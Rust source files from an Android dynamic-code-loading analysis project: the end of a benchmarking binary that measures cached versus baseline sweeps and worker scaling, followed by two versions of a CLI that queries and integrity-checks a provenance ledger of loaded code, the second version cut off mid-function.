    let mut common = CommonArgs::for_bench("BENCH_sweep.json", 3, 1);
    common.scale = 0.01;
    let mut skip_baseline = false;
    let mut max_workers = 4usize;
    while let Some(arg) = parser.next() {
        if common.accept(&arg, &mut parser) {
            continue;
        }
        match arg.as_str() {
            "--skip-baseline" => skip_baseline = true,
            "--max-workers" => {
                max_workers = parser.value("--max-workers", "an integer >= 1");
                if max_workers == 0 {
                    parser.fail("--max-workers needs an integer >= 1");
                }
            }
            other => parser.fail(&format!("unknown argument {other:?}")),
        }
    }

    eprintln!(
        "sweepbench: generating corpus (scale {}, seed {:#x}) ...",
        common.scale, common.seed
    );
    let corpus = generate(&dydroid_workload::CorpusSpec {
        scale: common.scale,
        seed: common.seed,
    });
    let apps = corpus.len();
    eprintln!("sweepbench: {apps} apps");

    let mut record = Measurement::new("sweep", "cached-vs-baseline", common.scale, common.seed);
    record.samples = common.samples;
    record.warmup = common.warmup;

    // Telemetry off in both variants: this benchmark is the PR-over-PR
    // perf trajectory, so it measures the disabled-telemetry fast path
    // (tracebench owns the enabled-vs-disabled comparison).
    let cached_config = PipelineConfig {
        telemetry: false,
        ..PipelineConfig::default()
    };
    let baseline_config = PipelineConfig {
        analysis_cache: false,
        serial_env_reruns: true,
        telemetry: false,
        ..PipelineConfig::default()
    };

    eprintln!(
        "sweepbench: cached + parallel-rerun sweep ({} warmup + {} sample rounds) ...",
        common.warmup, common.samples
    );
    let mut cached_report: Option<MeasurementReport> = None;
    let cached_ms = sample_rounds(common.samples, common.warmup, || {
        let (report, ms) = timed_sweep(cached_config.clone(), &corpus);
        cached_report = Some(report);
        ms
    });
    let cached_report = cached_report.expect("at least one cached round");
    eprint!("{}", cached_report.render_perf());
    record.counters_from_stats(cached_report.stats());
    record.push_metric(
        "cached_wall_ms",
        "ms",
        Direction::Lower,
        false,
        cached_ms.clone(),
    );
    let cached_median = dydroid_bench::Stats::from_samples(&cached_ms).median;
    record.push_metric(
        "apps_per_sec",
        "apps/sec",
        Direction::Higher,
        false,
        cached_ms
            .iter()
            .map(|ms| {
                if *ms == 0.0 {
                    0.0
                } else {
                    apps as f64 * 1000.0 / ms
                }
            })
            .collect(),
    );

    let mut payload = serde_json::json!({
        "apps": apps,
        "workers": PipelineConfig::default().effective_workers(),
        "cached": variant_json(&cached_report, cached_median, apps),
    });

    if !skip_baseline {
        eprintln!(
            "sweepbench: uncached serial baseline ({} warmup + {} sample rounds) ...",
            common.warmup, common.samples
        );
        let mut baseline_report: Option<MeasurementReport> = None;
        let baseline_ms = sample_rounds(common.samples, common.warmup, || {
            let (report, ms) = timed_sweep(baseline_config.clone(), &corpus);
            baseline_report = Some(report);
            ms
        });
        let baseline_report = baseline_report.expect("at least one baseline round");
        eprint!("{}", baseline_report.render_perf());

        // The optimization must not change a single measured byte.
        let a = serde_json::to_string(&cached_report).expect("serialise cached");
        let b = serde_json::to_string(&baseline_report).expect("serialise baseline");
        if a != b {
            eprintln!("sweepbench: FAIL — cached and baseline reports differ");
            std::process::exit(EXIT_FINDING);
        }
        eprintln!("sweepbench: reports identical ({} bytes of JSON)", a.len());

        let baseline_median = dydroid_bench::Stats::from_samples(&baseline_ms).median;
        let speedup = if cached_median == 0.0 {
            0.0
        } else {
            baseline_median / cached_median
        };
        // Noise-aware judgement of the cache effect: the same floor/k
        // thresholds benchcmp applies. A sub-noise difference is
        // reported as such instead of a meaningless 0.99x.
        let cfg = CompareConfig::default();
        let (beyond_noise, threshold) = significant(&baseline_ms, &cached_ms, cfg.floor, cfg.k);
        let verdict = if beyond_noise {
            "beyond noise"
        } else {
            "WITHIN NOISE — treat as 1.00x"
        };
        eprintln!(
            "sweepbench: baseline median {baseline_median:.1} ms -> cached median \
             {cached_median:.1} ms ({speedup:.2}x, {verdict}; threshold ±{threshold:.1} ms)"
        );
        record.push_metric(
            "baseline_wall_ms",
            "ms",
            Direction::Lower,
            false,
            baseline_ms,
        );
        record.push_metric(
            "cache_speedup",
            "ratio",
            Direction::Higher,
            false,
            vec![speedup],
        );
        if let serde_json::Value::Object(map) = &mut payload {
            map.push((
                "baseline".to_string(),
                variant_json(&baseline_report, baseline_median, apps),
            ));
            map.push(("speedup".to_string(), serde_json::json!(speedup)));
            map.push((
                "speedup_beyond_noise".to_string(),
                serde_json::json!(beyond_noise),
            ));
        }
    }

    // Worker-count scaling sweep 1→N through the sharded multi-writer
    // journaled path. Each count runs the same corpus; the finalized
    // journal and the report JSON must be byte-identical across counts.
    let scaling_dir =
        std::env::temp_dir().join(format!("sweepbench-scaling-{}", std::process::id()));
    std::fs::create_dir_all(&scaling_dir).expect("create scaling dir");
    let mut points = Vec::new();
    let mut makespan_1 = 0u64;
    let mut makespan_max = 0u64;
    let mut reference: Option<(Vec<u8>, String)> = None;
    for workers in 1..=max_workers {
        eprintln!("sweepbench: scaling sweep at {workers} worker(s) ...");
        let (report, wall_ms, journal_bytes) = scaling_point(&corpus, workers, &scaling_dir);
        let stats = report.stats();
        let makespan_us = virtual_makespan_us(&stats.worker_stats);
        if workers == 1 {
            makespan_1 = makespan_us;
        }
        makespan_max = makespan_us;
        // Scaling factor: how much shorter the critical path (longest
        // per-worker virtual cost) got versus one worker.
        let scaling = if makespan_us == 0 {
            0.0
        } else {
            makespan_1 as f64 / makespan_us as f64
        };
        let report_json = serde_json::to_string(&report).expect("serialise scaling report");
        match &reference {
            None => reference = Some((journal_bytes, report_json)),
            Some((ref_journal, ref_report)) => {
                if *ref_journal != journal_bytes {
                    eprintln!(
                        "sweepbench: FAIL — finalized journal at {workers} workers differs from 1 worker"
                    );
                    std::process::exit(EXIT_FINDING);
                }
                if *ref_report != report_json {
                    eprintln!(
                        "sweepbench: FAIL — report JSON at {workers} workers differs from 1 worker"
                    );
                    std::process::exit(EXIT_FINDING);
                }
            }
        }
        let steals: u64 = stats.worker_stats.iter().map(|w| w.steals).sum();
        let virtual_total: u64 = stats.worker_stats.iter().map(|w| w.virtual_us).sum();
        let apps_per_virtual_sec_per_core = if makespan_us == 0 {
            0.0
        } else {
            apps as f64 * 1_000_000.0 / (makespan_us as f64 * workers as f64)
        };
        eprintln!(
            "sweepbench:   wall {wall_ms} ms, virtual makespan {makespan_us} µs, scaling {scaling:.2}x, {steals} steals"
        );
        points.push(serde_json::json!({
            "workers": workers,
            "stream_shards": stats.stream_shards,
            "wall_ms": wall_ms,
            "virtual_makespan_us": makespan_us,
            "virtual_total_us": virtual_total,
            "scaling": scaling,
            "apps_per_virtual_sec_per_core": apps_per_virtual_sec_per_core,
            "steals": steals,
            "shard_contention": stats.shard_contention,
        }));
    }
    let _ = std::fs::remove_dir_all(&scaling_dir);
    let final_scaling = points
        .last()
        .and_then(|p| p["scaling"].as_f64())
        .unwrap_or(0.0);
    eprintln!(
        "sweepbench: scaling 1→{max_workers}: {final_scaling:.2}x on virtual makespan \
         (streams byte-identical across counts)"
    );
    // Virtual metrics: deterministic, judged across machines by benchcmp.
    record.push_metric(
        "virtual_makespan_us",
        "us",
        Direction::Lower,
        true,
        vec![makespan_max as f64],
    );
    record.push_metric(
        "scaling_at_max",
        "ratio",
        Direction::Higher,
        true,
        vec![final_scaling],
    );
    if let serde_json::Value::Object(map) = &mut payload {
        map.push((
            "scaling".to_string(),
            serde_json::json!({
                "judged_on": "virtual_makespan_us",
                "max_workers": max_workers,
                "scaling_at_max": final_scaling,
                "points": points,
            }),
        ));
    }
    record.payload = payload;

    record
        .write_pretty(&common.out)
        .expect("write bench output");
    eprintln!("sweepbench: wrote {}", common.out);
    common.append_history("sweepbench", &record);

    if let Some(min_scaling) = common.gate("scaling") {
        if final_scaling < min_scaling {
            eprintln!(
                "sweepbench: FAIL — scaling {final_scaling:.2}x at {max_workers} workers below \
                 required {min_scaling:.2}x"
            );
            std::process::exit(EXIT_FINDING);
        }
    }
}
