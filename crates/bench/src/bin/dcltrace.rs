//! Queries the DCL provenance ledger written beside a sweep journal
//! (`<journal>.provenance.jsonl`, or an explicit `--provenance-out` path).
//!
//! ```text
//! dcltrace --ledger PATH summary
//! dcltrace --ledger PATH chain <package> [<path>]
//! dcltrace --ledger PATH diff [<package>]
//! dcltrace --ledger PATH export --dot [--app PKG] [--out PATH]
//! dcltrace --ledger PATH check --journal PATH
//! dcltrace profile <journal> [--out PATH]
//! dcltrace top <journal> [--interval-ms N] [--iterations N]
//! ```
//!
//! `summary` prints one line per ledgered app; `chain` reconstructs the
//! causal URL → stream → file → load chain for a loaded path (all loaded
//! paths when none is given); `diff` lists the loads whose presence
//! differs across the four Table VIII environment configurations — the
//! logic-bomb signal; `export --dot` emits Graphviz DOT (one app, or the
//! whole corpus as clustered subgraphs); `check` verifies frame
//! integrity (CRC32 checksums and contiguous sequence numbers) across
//! the journal, ledger and event streams — including any unmerged
//! per-shard triplets (`<journal>.shard-K…`) a killed multi-writer
//! sweep left behind, each with its own sequence space — plus the
//! `<journal>.metrics.jsonl` snapshot stream when present, plus
//! ledger↔journal agreement on the analysed app set, printing
//! per-stream intact/dropped counts and exiting non-zero on any
//! corruption or disagreement (the CI smoke gate).
//!
//! Two observatory commands work straight off a journal, no ledger
//! needed: `profile` replays the (sharded) event streams into the
//! span-derived self-time profile and prints it as flamegraph-collapsed
//! stack lines, falling back to the `<journal>.profile.folded` artifact
//! a completed sweep leaves behind (finalize drops span lines from the
//! canonical stream); `top` is a live plain-terminal monitor that tails
//! the event and metrics-snapshot streams — torn tails and all, a
//! running sweep's tail is torn by definition — and repaints apps/sec,
//! worker utilization, per-phase latency quantiles, straggler alerts
//! and the virtual-clock ETA until the sweep completes.

use std::collections::{HashMap, HashSet};
use std::io::Write as _;

use dydroid::durable::scan_path;
use dydroid::obs::{MetricsSnapshot, SpanRecord};
use dydroid::provenance::{check_against_journal, corpus_dot};
use dydroid::{AppProvenance, Journal, ProvenanceLedger, SpanProfile};
use dydroid_bench::{EXIT_CODE_HELP, EXIT_FINDING, EXIT_USAGE};
use serde::Deserialize as _;

const USAGE: &str = "dcltrace --ledger PATH <summary | chain <pkg> [<path>] | diff [<pkg>] | \
export --dot [--app PKG] [--out PATH] | check --journal PATH> | \
dcltrace profile <journal> [--out PATH] | \
dcltrace top <journal> [--interval-ms N] [--iterations N]";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    eprintln!("{EXIT_CODE_HELP}");
    std::process::exit(EXIT_USAGE);
}

fn load_ledger(path: &str, allow_empty: bool) -> Vec<AppProvenance> {
    let ledger = ProvenanceLedger::new(path);
    match ledger.load() {
        Ok(records) if records.is_empty() && !allow_empty => {
            eprintln!("ledger {path} holds no records");
            std::process::exit(EXIT_FINDING);
        }
        Ok(records) => records,
        Err(e) => {
            eprintln!("error: cannot read ledger {path}: {e}");
            std::process::exit(EXIT_FINDING);
        }
    }
}

fn find_app<'l>(records: &'l [AppProvenance], pkg: &str) -> &'l AppProvenance {
    records
        .iter()
        .find(|p| p.package == pkg)
        .unwrap_or_else(|| {
            eprintln!(
                "error: package {pkg} not in ledger ({} apps)",
                records.len()
            );
            std::process::exit(EXIT_FINDING);
        })
}

fn cmd_summary(records: &[AppProvenance]) {
    println!(
        "{} apps in ledger ({} degraded)",
        records.len(),
        records.iter().filter(|p| p.degraded).count()
    );
    for p in records {
        let loads = p.loaded_paths();
        let remote = loads.iter().filter(|l| p.is_remote_chain(l)).count();
        println!(
            "{}  verdict={}  nodes={}  edges={}  loads={}  remote={}  env-divergent={}{}",
            p.package,
            p.verdict,
            p.nodes.len(),
            p.edges.len(),
            loads.len(),
            remote,
            p.env_diff().len(),
            if p.degraded { "  [degraded]" } else { "" },
        );
    }
}

fn cmd_chain(records: &[AppProvenance], pkg: &str, path: Option<&str>) {
    let app = find_app(records, pkg);
    let paths = match path {
        Some(p) => vec![p.to_string()],
        None => app.loaded_paths(),
    };
    if paths.is_empty() {
        println!("{pkg}: no dynamically loaded files");
        return;
    }
    for p in &paths {
        match app.render_chain(p) {
            Some(chain) => {
                let origin = if app.is_remote_chain(p) {
                    "remote"
                } else {
                    "local"
                };
                println!("{pkg} {p} [{origin} origin]");
                print!("{chain}");
            }
            None => println!("{pkg} {p}: not in provenance graph"),
        }
    }
}

fn cmd_diff(records: &[AppProvenance], pkg: Option<&str>) {
    let subset: Vec<&AppProvenance> = match pkg {
        Some(pkg) => vec![find_app(records, pkg)],
        None => records.iter().collect(),
    };
    let mut total = 0usize;
    for app in subset {
        for d in app.env_diff() {
            total += 1;
            println!(
                "{} {}  loaded under [{}]  missing under [{}]",
                app.package,
                d.path,
                d.loaded_under.join(", "),
                d.missing_under.join(", ")
            );
        }
    }
    println!("{total} environment-divergent load(s)");
}

fn cmd_export(records: &[AppProvenance], app: Option<&str>, out: Option<&str>) {
    let dot = match app {
        Some(pkg) => find_app(records, pkg).to_dot(),
        None => corpus_dot(records),
    };
    match out {
        Some(path) => {
            std::fs::write(path, &dot).unwrap_or_else(|e| {
                eprintln!("error: cannot write {path}: {e}");
                std::process::exit(EXIT_FINDING);
            });
            eprintln!("wrote {path}");
        }
        None => print!("{dot}"),
    }
}

/// Frame-verifies one stream file: checksums and sequence continuity.
/// Returns the number of corrupt/dropped frames (0 for a missing file,
/// which only `required` streams report as a defect).
fn check_stream(name: &str, path: &std::path::Path, required: bool) -> usize {
    match scan_path(path) {
        Ok(Some(scan)) => {
            match &scan.defect {
                Some(defect) => println!(
                    "{name}: {} intact frame(s), {} dropped ({defect})",
                    scan.bodies.len(),
                    scan.dropped
                ),
                None => println!("{name}: {} intact frame(s), 0 dropped", scan.bodies.len()),
            }
            scan.dropped
        }
        Ok(None) => {
            if required {
                println!("{name}: missing ({})", path.display());
                1
            } else {
                println!("{name}: not present (skipped)");
                0
            }
        }
        Err(e) => {
            println!("{name}: unreadable ({e})");
            1
        }
    }
}

fn cmd_check(records: &[AppProvenance], ledger_path: &str, journal_path: &str) {
    let journal = Journal::new(journal_path);
    let loaded = journal.load().unwrap_or_else(|e| {
        eprintln!("error: cannot read journal {journal_path}: {e}");
        std::process::exit(EXIT_FINDING);
    });
    // Layer 1: frame integrity — CRC32 checksums and contiguous sequence
    // numbers across all three persistent streams.
    let mut dropped = 0usize;
    dropped += check_stream("journal", std::path::Path::new(journal_path), true);
    dropped += check_stream("ledger", std::path::Path::new(ledger_path), true);
    dropped += check_stream("events", &journal.events_path(), false);
    // The metrics-snapshot sidecar is optional (telemetry off, or a
    // zero snapshot interval), but when present its frames must verify
    // like any other stream.
    dropped += check_stream("metrics", &journal.metrics_path(), false);
    // Shard triplets of an interrupted multi-writer sweep (a completed
    // run merges and removes them): frame-verify each pre-merge, with
    // per-shard intact/dropped counts. Sequence numbers are per shard.
    match journal.discover_shards() {
        Ok(shards) => {
            if !shards.is_empty() {
                println!(
                    "{} unmerged shard triplet(s) from an interrupted multi-writer sweep:",
                    shards.len()
                );
            }
            for k in shards {
                dropped +=
                    check_stream(&format!("shard-{k} journal"), &journal.shard_path(k), true);
                dropped += check_stream(
                    &format!("shard-{k} ledger"),
                    &journal.shard_provenance_path(k),
                    false,
                );
                dropped += check_stream(
                    &format!("shard-{k} events"),
                    &journal.shard_events_path(k),
                    false,
                );
            }
        }
        Err(e) => {
            eprintln!("check failed: cannot scan for shard files: {e}");
            dropped += 1;
        }
    }
    // Layer 2: cross-stream agreement on the analysed app set.
    let agree = check_against_journal(records, &loaded);
    match &agree {
        Ok(()) => println!("ok: ledger and journal agree on {} app(s)", loaded.len()),
        Err(msg) => eprintln!("check failed: {msg}"),
    }
    if dropped > 0 {
        eprintln!("check failed: {dropped} corrupt or dropped frame(s) across streams");
    }
    if dropped > 0 || agree.is_err() {
        std::process::exit(EXIT_FINDING);
    }
}

fn cmd_profile(journal_path: &str, out: Option<&str>) {
    let journal = Journal::new(journal_path);
    let profile = SpanProfile::replay_journal(&journal).unwrap_or_else(|e| {
        eprintln!("error: cannot replay event streams of {journal_path}: {e}");
        std::process::exit(EXIT_FINDING);
    });
    let folded = if profile.is_empty() {
        // A completed sweep's canonical event stream holds only
        // checkpoint/provenance lines; the profile survives as the
        // artifact written at assembly.
        std::fs::read_to_string(journal.profile_path()).unwrap_or_else(|_| {
            eprintln!(
                "error: no span events in {} and no profile artifact at {}",
                journal.events_path().display(),
                journal.profile_path().display()
            );
            std::process::exit(EXIT_FINDING);
        })
    } else {
        profile.folded()
    };
    match out {
        Some(path) => {
            std::fs::write(path, &folded).unwrap_or_else(|e| {
                eprintln!("error: cannot write {path}: {e}");
                std::process::exit(EXIT_FINDING);
            });
            eprintln!("wrote {path}");
        }
        None => print!("{folded}"),
    }
}

/// One repaint's worth of observatory state, read fresh from the
/// streams each frame. Torn tails are expected (the sweep is mid-write)
/// and tolerated: `scan_path` yields the intact prefix.
#[derive(Default)]
struct TopFrame {
    /// Distinct apps with a checkpoint event (survives resume stitching,
    /// where an app may appear in more than one stream generation).
    done: usize,
    /// Gauges and counters from the newest metrics snapshot, 0 when the
    /// snapshot stream is absent or empty.
    total: u64,
    workers: u64,
    busy_us: u64,
    makespan_us: u64,
    stalls: u64,
    snapshots: usize,
    /// Virtual clock at the newest snapshot.
    virtual_us: u64,
    /// Span durations per phase name, for latency quantiles.
    phase_us: HashMap<String, Vec<u64>>,
    /// Straggler warning apps, oldest first.
    straggler_apps: Vec<String>,
}

fn scan_bodies(path: &std::path::Path) -> Vec<String> {
    match scan_path(path) {
        Ok(Some(scan)) => scan.bodies,
        _ => Vec::new(),
    }
}

fn read_top_frame(journal: &Journal) -> TopFrame {
    let mut frame = TopFrame::default();
    let mut event_paths = vec![journal.events_path()];
    if let Ok(shards) = journal.discover_shards() {
        for k in shards {
            event_paths.push(journal.shard_events_path(k));
        }
    }
    let mut done: HashSet<String> = HashSet::new();
    for path in &event_paths {
        for body in scan_bodies(path) {
            let Ok(value) = serde_json::from_str::<serde::Value>(&body) else {
                continue;
            };
            match value.get("type").and_then(|t| t.as_str()) {
                Some("checkpoint") => {
                    if let Some(app) = value.get("app").and_then(|a| a.as_str()) {
                        done.insert(app.to_string());
                    }
                }
                Some("span") => {
                    if let Ok(span) = SpanRecord::from_json(&value) {
                        frame
                            .phase_us
                            .entry(span.name)
                            .or_default()
                            .push(span.dur_us);
                    }
                }
                Some("warn") if value.get("kind").and_then(|k| k.as_str()) == Some("straggler") => {
                    if let Some(app) = value.get("app").and_then(|a| a.as_str()) {
                        frame.straggler_apps.push(app.to_string());
                    }
                }
                _ => {}
            }
        }
    }
    frame.done = done.len();
    let snapshots = scan_bodies(&journal.metrics_path());
    frame.snapshots = snapshots.len();
    let newest = snapshots.iter().rev().find_map(|body| {
        let value = serde_json::from_str::<serde::Value>(body).ok()?;
        if value.get("type").and_then(|t| t.as_str()) != Some("metrics") {
            return None;
        }
        let virtual_us = value
            .get("virtual_us")
            .and_then(|v| v.as_u64())
            .unwrap_or(0);
        let snap = MetricsSnapshot::from_json(value.get("snapshot")?).ok()?;
        Some((virtual_us, snap))
    });
    if let Some((virtual_us, snap)) = newest {
        let gauge = |name: &str| {
            snap.gauges
                .iter()
                .find(|(n, _)| n == name)
                .map_or(0, |(_, v)| *v)
        };
        frame.virtual_us = virtual_us;
        frame.total = gauge("sweep.total_apps");
        frame.workers = gauge("sweep.workers");
        frame.busy_us = gauge("sweep.busy_us");
        frame.makespan_us = gauge("sweep.virtual_makespan_us");
        frame.stalls = snap.counter("watchdog.stragglers");
    }
    frame
}

/// Nearest-rank percentile over an unsorted sample set.
fn percentile_us(sorted: &[u64], q: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    let rank = ((q * sorted.len() as f64).ceil() as usize).clamp(1, sorted.len());
    sorted[rank - 1]
}

fn render_top(
    journal_path: &str,
    frame_no: u64,
    frame: &TopFrame,
    prev: Option<&(TopFrame, std::time::Instant)>,
) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(out, "dcltrace top — {journal_path} · frame {frame_no}");
    // Wall-clock throughput from the inter-frame checkpoint delta; the
    // first frame has no baseline.
    let rate = prev.and_then(|(p, t)| {
        let secs = t.elapsed().as_secs_f64();
        (secs > 0.0).then(|| (frame.done.saturating_sub(p.done)) as f64 / secs)
    });
    let mut apps_line = match frame.total {
        0 => format!("  apps: {} done", frame.done),
        total => format!(
            "  apps: {}/{total} done ({:.1}%)",
            frame.done,
            frame.done as f64 * 100.0 / total as f64
        ),
    };
    if frame.workers > 0 {
        let _ = write!(apps_line, " · {} worker(s)", frame.workers);
    }
    match rate {
        Some(rate) if rate > 0.0 => {
            let _ = write!(apps_line, " · {rate:.1} apps/s");
            let remaining = frame.total.saturating_sub(frame.done as u64);
            if frame.total > 0 {
                let _ = write!(apps_line, " · ETA {:.1}s", remaining as f64 / rate);
            }
        }
        Some(_) => apps_line.push_str(" · stalled (no progress since last frame)"),
        None => {}
    }
    let _ = writeln!(out, "{apps_line}");
    if frame.snapshots > 0 {
        let util = if frame.workers > 0 && frame.makespan_us > 0 {
            (frame.busy_us as f64 / (frame.workers * frame.makespan_us) as f64 * 100.0).min(100.0)
        } else {
            0.0
        };
        // The deterministic ETA: remaining apps at the observed
        // per-app share of the parallel virtual makespan.
        let virtual_eta_us = if frame.done > 0 {
            frame.total.saturating_sub(frame.done as u64) as f64 * frame.makespan_us as f64
                / frame.done as f64
        } else {
            0.0
        };
        let _ = writeln!(
            out,
            "  virtual: {:.1} ms makespan · {util:.0}% worker utilization · \
             ETA ≈ {:.1} virtual ms · {} snapshot(s)",
            frame.makespan_us as f64 / 1000.0,
            virtual_eta_us / 1000.0,
            frame.snapshots,
        );
    }
    if frame.stalls > 0 || !frame.straggler_apps.is_empty() {
        let recent: Vec<&str> = frame
            .straggler_apps
            .iter()
            .rev()
            .take(3)
            .map(String::as_str)
            .collect();
        let _ = writeln!(
            out,
            "  stalls: {} straggler(s) flagged{}{}",
            frame.stalls.max(frame.straggler_apps.len() as u64),
            if recent.is_empty() { "" } else { " — " },
            recent.join(", "),
        );
    }
    if !frame.phase_us.is_empty() {
        let mut phases: Vec<(&String, &Vec<u64>)> = frame.phase_us.iter().collect();
        phases.sort_by_key(|(name, durs)| {
            (std::cmp::Reverse(durs.iter().sum::<u64>()), (*name).clone())
        });
        let width = phases
            .iter()
            .map(|(name, _)| name.len())
            .max()
            .unwrap_or(5)
            .max(5);
        let _ = writeln!(
            out,
            "  {:<width$}  {:>7}  {:>10}  {:>10}  {:>10}",
            "phase", "count", "p50 µs", "p95 µs", "p99 µs"
        );
        for (name, durs) in phases.iter().take(10) {
            let mut sorted = (*durs).clone();
            sorted.sort_unstable();
            let _ = writeln!(
                out,
                "  {:<width$}  {:>7}  {:>10}  {:>10}  {:>10}",
                name,
                sorted.len(),
                percentile_us(&sorted, 0.50),
                percentile_us(&sorted, 0.95),
                percentile_us(&sorted, 0.99),
            );
        }
    }
    out
}

fn cmd_top(journal_path: &str, interval_ms: u64, iterations: u64) {
    let journal = Journal::new(journal_path);
    let mut prev: Option<(TopFrame, std::time::Instant)> = None;
    let mut frame_no = 0u64;
    loop {
        frame_no += 1;
        let frame = read_top_frame(&journal);
        let mut stdout = std::io::stdout().lock();
        if frame_no > 1 {
            // Repaint in place: home the cursor and clear to end.
            let _ = write!(stdout, "\x1b[H\x1b[J");
        }
        let complete = frame.total > 0 && frame.done as u64 >= frame.total;
        let _ = write!(
            stdout,
            "{}",
            render_top(journal_path, frame_no, &frame, prev.as_ref())
        );
        if complete {
            let _ = writeln!(stdout, "sweep complete");
        }
        let _ = stdout.flush();
        drop(stdout);
        prev = Some((frame, std::time::Instant::now()));
        if complete || (iterations > 0 && frame_no >= iterations) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(interval_ms));
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut it = argv.iter().map(String::as_str);
    let mut ledger_path: Option<&str> = None;
    let mut command: Option<&str> = None;
    let mut operands: Vec<&str> = Vec::new();
    let mut dot = false;
    let mut app: Option<&str> = None;
    let mut out: Option<&str> = None;
    let mut journal: Option<&str> = None;
    let mut interval_ms: u64 = 1000;
    let mut iterations: u64 = 0;
    while let Some(arg) = it.next() {
        match arg {
            "--ledger" => {
                ledger_path = Some(it.next().unwrap_or_else(|| usage("--ledger needs a path")))
            }
            "--dot" => dot = true,
            "--app" => app = Some(it.next().unwrap_or_else(|| usage("--app needs a package"))),
            "--out" => out = Some(it.next().unwrap_or_else(|| usage("--out needs a path"))),
            "--journal" => {
                journal = Some(it.next().unwrap_or_else(|| usage("--journal needs a path")));
            }
            "--interval-ms" => {
                interval_ms = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--interval-ms needs an integer"));
            }
            "--iterations" => {
                iterations = it
                    .next()
                    .and_then(|v| v.parse().ok())
                    .unwrap_or_else(|| usage("--iterations needs an integer (0 = until done)"));
            }
            "--help" | "-h" => {
                println!("usage: {USAGE}");
                println!("{EXIT_CODE_HELP}");
                std::process::exit(0);
            }
            other if other.starts_with("--") => usage(&format!("unknown flag {other:?}")),
            other if command.is_none() => command = Some(other),
            other => operands.push(other),
        }
    }
    // The observatory commands work straight off a journal; only the
    // ledger-query commands need --ledger.
    if let Some(cmd @ ("profile" | "top")) = command {
        let journal_path = operands
            .first()
            .copied()
            .or(journal)
            .unwrap_or_else(|| usage(&format!("{cmd} needs a journal path")));
        if operands.len() > 1 {
            usage(&format!("{cmd} takes one journal path"));
        }
        match cmd {
            "profile" => cmd_profile(journal_path, out),
            _ => cmd_top(journal_path, interval_ms, iterations),
        }
        return;
    }
    let ledger_path = ledger_path.unwrap_or_else(|| usage("--ledger PATH is required"));
    // `check` must still verify an interrupted first run, where every
    // record is in shard files and the base ledger is legitimately empty.
    let records = load_ledger(ledger_path, command == Some("check"));
    match command {
        Some("summary") => cmd_summary(&records),
        Some("chain") => match operands.as_slice() {
            [pkg] => cmd_chain(&records, pkg, None),
            [pkg, path] => cmd_chain(&records, pkg, Some(path)),
            _ => usage("chain takes <package> [<path>]"),
        },
        Some("diff") => match operands.as_slice() {
            [] => cmd_diff(&records, None),
            [pkg] => cmd_diff(&records, Some(pkg)),
            _ => usage("diff takes at most one <package>"),
        },
        Some("export") => {
            if !dot {
                usage("export currently requires --dot");
            }
            cmd_export(&records, app, out);
        }
        Some("check") => {
            let journal = journal.unwrap_or_else(|| usage("check needs --journal PATH"));
            cmd_check(&records, ledger_path, journal);
        }
        Some(other) => usage(&format!("unknown command {other:?}")),
        None => usage("a command is required"),
    }
}
