//! Queries the DCL provenance ledger written beside a sweep journal
//! (`<journal>.provenance.jsonl`, or an explicit `--provenance-out` path).
//!
//! ```text
//! dcltrace --ledger PATH summary
//! dcltrace --ledger PATH chain <package> [<path>]
//! dcltrace --ledger PATH diff [<package>]
//! dcltrace --ledger PATH export --dot [--app PKG] [--out PATH]
//! dcltrace --ledger PATH check --journal PATH
//! ```
//!
//! `summary` prints one line per ledgered app; `chain` reconstructs the
//! causal URL → stream → file → load chain for a loaded path (all loaded
//! paths when none is given); `diff` lists the loads whose presence
//! differs across the four Table VIII environment configurations — the
//! logic-bomb signal; `export --dot` emits Graphviz DOT (one app, or the
//! whole corpus as clustered subgraphs); `check` verifies frame
//! integrity (CRC32 checksums and contiguous sequence numbers) across
//! the journal, ledger and event streams — including any unmerged
//! per-shard triplets (`<journal>.shard-K…`) a killed multi-writer
//! sweep left behind, each with its own sequence space — plus
//! ledger↔journal agreement on the analysed app set, printing
//! per-stream intact/dropped counts and exiting non-zero on any
//! corruption or disagreement (the CI smoke gate).

use dydroid::durable::scan_path;
use dydroid::provenance::{check_against_journal, corpus_dot};
use dydroid::{AppProvenance, Journal, ProvenanceLedger};
use dydroid_bench::{EXIT_CODE_HELP, EXIT_FINDING, EXIT_USAGE};

const USAGE: &str = "dcltrace --ledger PATH <summary | chain <pkg> [<path>] | diff [<pkg>] | \
export --dot [--app PKG] [--out PATH] | check --journal PATH>";

fn usage(msg: &str) -> ! {
    eprintln!("error: {msg}");
    eprintln!("usage: {USAGE}");
    eprintln!("{EXIT_CODE_HELP}");
    std::process::exit(EXIT_USAGE);
}

fn load_ledger(path: &str, allow_empty: bool) -> Vec<AppProvenance> {
    let ledger = ProvenanceLedger::new(path);
    match ledger.load() {
        Ok(records) if records.is_empty() && !allow_empty => {
            eprintln!("ledger {path} holds no records");
            std::process::exit(EXIT_FINDING);
        }
        Ok(records) => records,
        Err(e) => {
            eprintln!("error: cannot read ledger {path}: {e}");
            std::process::exit(EXIT_FINDING);
        }
    }
}

fn find_app<'l>(records: &'l [AppProvenance], pkg: &str) -> &'l AppProvenance {
    records
        .iter()
        .find(|p| p.package == pkg)
        .unwrap_or_else(|| {
            eprintln!(
                "error: package {pkg} not in ledger ({} apps)",
                records.len()
            );
            std::process::exit(EXIT_FINDING);
        })
}

fn cmd_summary(records: &[AppProvenance]) {
    println!(
        "{} apps in ledger ({} degraded)",
        records.len(),
        records.iter().filter(|p| p.degraded).count()
    );
    for p in records {
        let loads = p.loaded_paths();
        let remote = loads.iter().filter(|l| p.is_remote_chain(l)).count();
        println!(
            "{}  verdict={}  nodes={}  edges={}  loads={}  remote={}  env-divergent={}{}",
            p.package,
            p.verdict,
            p.nodes.len(),
            p.edges.len(),
            loads.len(),
            remote,
            p.env_diff().len(),
            if p.degraded { "  [degraded]" } else { "" },
        );
    }
}

fn cmd_chain(records: &[AppProvenance], pkg: &str, path: Option<&str>) {
    let app = find_app(records, pkg);
    let paths = match path {
        Some(p) => vec![p.to_string()],
        None => app.loaded_paths(),
    };
    if paths.is_empty() {
        println!("{pkg}: no dynamically loaded files");
        return;
    }
    for p in &paths {
        match app.render_chain(p) {
            Some(chain) => {
                let origin = if app.is_remote_chain(p) {
                    "remote"
                } else {
                    "local"
                };
